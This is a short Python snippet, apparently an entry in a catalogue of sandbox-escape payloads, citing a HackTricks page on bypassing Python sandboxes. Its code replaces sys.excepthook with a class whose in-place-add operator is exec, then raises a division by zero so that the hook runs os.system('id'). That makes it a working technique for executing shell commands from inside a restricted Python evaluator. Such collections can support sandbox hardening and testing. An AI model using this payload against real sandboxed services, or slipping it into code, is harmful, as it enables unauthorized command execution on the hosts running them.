# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (sys.excepthook = X; 1/0)
# Family: metaclass
# What: sys.excepthook replaced by a class whose construction execs
import collections

class X:
    def __init__(self, a, b, c):
        self += "__import__('os').system('id')"
    __iadd__ = exec

collections._sys.excepthook = X
1 / 0
